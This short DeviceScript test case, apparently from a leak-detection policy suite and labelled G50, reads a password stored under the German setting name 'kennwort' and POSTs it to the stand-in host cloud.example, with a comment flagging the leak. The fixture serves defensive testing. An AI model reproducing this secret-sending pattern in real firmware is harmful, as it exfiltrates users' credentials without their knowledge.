// G50: sends a password whose setting has an innocent name; the policy knows that it is one.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

paired(async () => {
  const body = await readSetting("kennwort", "");
  const response = await fetch("https://cloud.example/g50", { method: "POST", body }); // leak: settings.kennwort
  await response.close();
});
